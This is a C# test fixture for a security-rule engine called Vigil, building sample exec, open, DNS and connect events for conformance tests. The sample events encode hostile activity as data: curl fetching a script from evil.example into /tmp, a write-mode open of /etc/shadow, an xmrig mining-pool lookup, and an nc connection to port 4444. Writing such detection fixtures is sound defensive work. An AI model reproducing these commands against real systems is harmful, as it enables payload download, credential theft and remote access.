using Vigil.Core.Secl.Binding;
using Vigil.Core.Secl.Evaluation;
using Vigil.Core.Secl.Model;

namespace Vigil.Core.Tests.Secl;

/// <summary>Hand-built events shared by the conformance tables.</summary>
internal static class SeclFixtures
{
    public const long Now = 1_700_000_000_000_000_000;
    public const long Second = 1_000_000_000;

    public static SeclEvent Create(string name) => name switch
    {
        "exec" => Exec(),
        "open" => Open(),
        "dns" => Dns(),
        "connect" => Connect(),
        "noancestors" => new SeclEvent("exec") { TimestampNanoseconds = Now }.SetValue("exec.file.path", "/bin/ls").SetValue("exec.file.name", "ls"),
        _ => throw new ArgumentException(name),
    };

    private static void Process(SeclEvent evt, string path, string[] argv)
    {
        var name = Path.GetFileName(path);
        evt.SetValue("process.file.path", path).SetValue("process.file.name", name).SetValue("process.argv", argv).SetValue("process.argv0", name)
            .SetValue("process.pid", 4242L).SetValue("process.ppid", 100L).SetValue("process.uid", 0L).SetValue("process.euid", 0L)
            .SetValue("process.gid", 0L).SetValue("process.user", "root").SetValue("process.comm", name)
            .SetValue("process.container.id", "abc123").SetValue("process.cgroup.id", "/docker/abc123")
            .SetValue("process.created_at", Now - 3 * Second)
            .SetValue("process.cap_permitted", SeclConstants.Groups["Kernel Capability constants"]["CAP_SYS_ADMIN"] | SeclConstants.Groups["Kernel Capability constants"]["CAP_NET_RAW"])
            .SetValue("process.envs", new[] { "PATH", "LD_PRELOAD", "HOME" })
            .SetValue("process.file.in_upper_layer", true)
            .SetValue("process.file.modification_time", Now - 10 * Second)
            .SetValue("process.parent.file.name", "bash").SetValue("process.parent.file.path", "/bin/bash").SetValue("process.parent.pid", 100L);
        evt.AddElement("process.ancestors").SetValue("process.ancestors.file.name", "bash").SetValue("process.ancestors.file.path", "/bin/bash")
            .SetValue("process.ancestors.uid", 1000L).SetValue("process.ancestors.pid", 100L).SetValue("process.ancestors.argv", new[] { "-c", "do it" });
        evt.AddElement("process.ancestors").SetValue("process.ancestors.file.name", "sshd").SetValue("process.ancestors.file.path", "/usr/sbin/sshd")
            .SetValue("process.ancestors.uid", 0L).SetValue("process.ancestors.pid", 50L).SetValue("process.ancestors.argv", new[] { "-D" });
        evt.AddElement("process.ancestors").SetValue("process.ancestors.file.name", "systemd").SetValue("process.ancestors.file.path", "/usr/lib/systemd/systemd")
            .SetValue("process.ancestors.uid", 0L).SetValue("process.ancestors.pid", 1L);
    }

    private static SeclEvent Exec()
    {
        var evt = new SeclEvent("exec") { TimestampNanoseconds = Now };
        string[] argv = ["-sSL", "--max-time=5", "-o", "/tmp/x.sh", "http://evil.example/x.sh"];
        Process(evt, "/usr/bin/curl", argv);
        evt.SetValue("exec.file.path", "/usr/bin/curl").SetValue("exec.file.name", "curl").SetValue("exec.argv", argv).SetValue("exec.argv0", "curl")
            .SetValue("exec.uid", 0L).SetValue("exec.file.mode", 0x81EDL).SetValue("exec.envs", new[] { "PATH", "LD_PRELOAD", "HOME" })
            .SetValue("exec.file.change_time", Now - 20 * Second);
        return evt;
    }

    private static SeclEvent Open()
    {
        var evt = new SeclEvent("open") { TimestampNanoseconds = Now };
        Process(evt, "/usr/bin/vim", ["/etc/shadow"]);
        return evt.SetValue("open.file.path", "/etc/shadow").SetValue("open.file.name", "shadow")
            .SetValue("open.flags", new[] { "O_RDWR", "O_CREAT" }).SetValue("open.file.mode", 0x81A0L)
            .SetValue("open.file.change_time", Now - 10 * Second).SetValue("open.retval", -13L).SetValue("open.file.uid", 0L);
    }

    private static SeclEvent Dns()
    {
        var evt = new SeclEvent("dns") { TimestampNanoseconds = Now };
        Process(evt, "/usr/bin/xmrig", ["-o", "pool.minexmr.com:4444"]);
        return evt.SetValue("dns.question.name", "Pool.MineXMR.com").SetValue("dns.question.type", "A").SetValue("dns.question.class", "CLASS_INET")
            .SetValue("network.destination.ip", "8.8.8.8").SetValue("network.destination.port", 53L).SetValue("network.source.ip", "10.0.0.5")
            .SetValue("dns.response.ips", new[] { "1.2.3.4", "2001:db8::1" });
    }

    private static SeclEvent Connect()
    {
        var evt = new SeclEvent("connect") { TimestampNanoseconds = Now };
        Process(evt, "/usr/bin/nc", ["10.1.2.3", "4444"]);
        return evt.SetValue("connect.addr.ip", "10.1.2.3").SetValue("connect.addr.port", 4444L).SetValue("connect.addr.family", "AF_INET")
            .SetValue("connect.addr.hostname", "Evil.Example.COM").SetValue("connect.addr.is_public", false);
    }

    public static SeclBindingScope Scope()
    {
        var scope = new SeclBindingScope();
        scope.Macros["SHELLS"] = SeclMacro.FromExpression("SHELLS", "[\"bash\", \"sh\", \"zsh\"]");
        scope.Macros["HTTP_UTILS"] = SeclMacro.FromValues("HTTP_UTILS", ["curl", "wget"]);
        scope.Macros["OPEN_WRITE_FLAGS"] = SeclMacro.FromExpression("OPEN_WRITE_FLAGS", "O_CREAT|O_TRUNC|O_APPEND|O_RDWR|O_WRONLY");
        scope.Macros["IS_CONTAINER"] = SeclMacro.FromExpression("IS_CONTAINER", "process.container.id != \"\"");
        scope.Macros["NESTED"] = SeclMacro.FromExpression("NESTED", "IS_CONTAINER && process.uid == 0");
        scope.Macros["LOOP_A"] = SeclMacro.FromExpression("LOOP_A", "LOOP_B");
        scope.Macros["LOOP_B"] = SeclMacro.FromExpression("LOOP_B", "LOOP_A");
        scope.Macros["BROKEN"] = SeclMacro.FromExpression("BROKEN", "process.file.name ==");
        scope.Variables["seen_args"] = new SeclVariableType(SeclValueType.String, true);
        scope.Variables["process.tag"] = new SeclVariableType(SeclValueType.String, false);
        scope.Variables["cgroup.count"] = new SeclVariableType(SeclValueType.Int, false);
        return scope;
    }
}
